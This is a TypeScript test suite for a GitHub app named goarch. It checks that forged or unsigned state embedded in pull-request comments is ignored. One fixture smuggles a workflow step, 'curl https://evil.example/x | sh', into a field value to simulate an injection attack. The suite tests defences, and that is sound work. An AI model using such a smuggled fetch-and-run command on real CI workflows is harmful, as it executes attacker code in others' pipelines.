import { readFileSync } from 'node:fs';
import nock from 'nock';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { diagnoseText } from '../../src/core/diagnose/diagnose-log.js';
import type { CommentState } from '../../src/service/comment-state.js';
import { COMMENT_MARKER } from '../../src/service/comment-state.js';
import { loadRuleSet } from '../../src/service/load-rule-set.js';
import { renderPrComment } from '../../src/service/render-pr-comment.js';
import { createStateSeal } from '../../src/service/state-seal.js';
import type { AppServer } from './github-test-kit.js';
import { API, BY_THIS_APP, SEAL, TOKEN_REPLY, deliver, issueCommentPayload, startAppServer, track, uniqueRepo, waitFor } from './github-test-kit.js';

/** Issue 13, holes 1 and 2: state in a comment that goarch did not sign, or did not write, is never read back. */
const LOG = 'fixtures/logs/lab/exec-arm64-go-test.log';
const CONFIG = /\/contents\/\.github(%2F|\/)goarch\.yml/;

beforeAll(() => {
  nock.disableNetConnect();
  nock.enableNetConnect('127.0.0.1');
});
afterAll(() => {
  nock.enableNetConnect();
});

function stateOf(runId: number, r: { owner: string; repo: string }): CommentState {
  const incident = diagnoseText(readFileSync(LOG, 'utf8'), loadRuleSet()).incidents[0];
  if (incident === undefined) throw new Error('no incident');
  // The attack: host.goarch carries a workflow step.
  const forged = { ...incident, host: { goos: 'linux', goarch: 'arm64\n      - run: curl https://evil.example/x | sh' } };
  return {
    v: 1,
    entries: [{ fingerprint: incident.fingerprint, incident: forged, workflow: { id: '1', name: 'CI' }, runId, runUrl: `https://github.com/${r.owner}/${r.repo}/actions/runs/${runId}`, jobs: [], count: 1, truncatedAt: null, resolved: null }],
    gone: null,
  };
}

describe('forged comment state', () => {
  let server: AppServer;
  let r: ReturnType<typeof uniqueRepo>;
  let api: nock.Scope;
  let calls: string[];
  let replies: string[];

  beforeEach(async () => {
    server = await startAppServer();
    r = uniqueRepo();
    api = nock(API);
    calls = [];
    replies = [];
    track(calls, api);
  });
  afterEach(async () => {
    await server.close();
    const pending = nock.pendingMocks();
    nock.cleanAll();
    expect(pending).toEqual([]);
    // Nothing is ever written but the one reply: no run read, no commit, no ref.
    expect(calls.filter((c) => !c.startsWith('GET') && !c.includes('/access_tokens'))).toEqual([`POST /repos/${r.owner}/${r.repo}/issues/4/comments`]);
    expect(calls.filter((c) => c.includes('/actions/') || c.includes('/git/'))).toEqual([]);
  });

  async function askFix(comments: object[]): Promise<string> {
    const repoPath = `/repos/${r.owner}/${r.repo}`;
    api.post(`/app/installations/${r.installationId}/access_tokens`).reply(201, TOKEN_REPLY);
    api.get(`${repoPath}/collaborators/hubot/permission`).reply(200, { permission: 'write', role_name: 'maintain' });
    api.get((path) => CONFIG.test(path) && path.startsWith(`${repoPath}/`)).reply(404, {});
    api.get((path) => CONFIG.test(path) && path.startsWith(`/repos/${r.owner}/.github/`)).reply(404, {});
    api.get(`${repoPath}/issues/4/comments`).query(true).reply(200, comments);
    api.post(`${repoPath}/issues/4/comments`).reply(201, (_uri, body) => {
      replies.push((body as { body: string }).body);
      return { id: 2, html_url: 'https://github.com/c/2' };
    });
    const payload = issueCommentPayload(r, '/goarch fix', 4);
    await deliver(server, 'issue_comment', { ...payload, sender: { ...(payload.sender as object), login: 'hubot', type: 'User' } });
    await waitFor(() => replies.length === 1, 'the reply');
    return replies[0] ?? '';
  }

  const NOTHING = 'goarch has no open diagnosis on this pull request to fix. Comment `/goarch diagnose` first.';

  it('ignores a state marker planted in log text inside goarch\'s own comment (hole 1)', async () => {
    const real = renderPrComment({ v: 1, entries: [], gone: null }, { embedState: true, seal: SEAL });
    const encoded = Buffer.from(JSON.stringify(stateOf(504, r))).toString('base64');
    // The old marker form, planted ahead of the real state as a step title would be, inside a code span.
    const planted = real.replace('## goarch', `## goarch\n\n\`##[group]Run go test -run 'X<!-- goarch:state ${encoded} -->'\``);
    expect(await askFix([{ id: 9001, body: planted, ...BY_THIS_APP, html_url: 'https://github.com/c/9001' }])).toBe(NOTHING);
  });

  it('ignores a last-line state that is not signed with the server\'s key', async () => {
    const other = createStateSeal('somebody else\'s key, thirty-two characters or more');
    const body = renderPrComment(stateOf(504, r), { embedState: true, seal: other });
    expect(body.startsWith(COMMENT_MARKER)).toBe(true);
    expect(await askFix([{ id: 9001, body, ...BY_THIS_APP, html_url: 'https://github.com/c/9001' }])).toBe(NOTHING);
  });

  it('ignores another bot\'s comment even with a marker and a valid-looking state (hole 2)', async () => {
    const body = renderPrComment(stateOf(504, r), { embedState: true, seal: SEAL });
    const otherBot = { user: { login: 'evil[bot]', type: 'Bot' }, performed_via_github_app: { id: 4242, slug: 'evil' } };
    expect(await askFix([{ id: 9001, body, ...otherBot, html_url: 'https://github.com/c/9001' }])).toBe(NOTHING);
  });
});
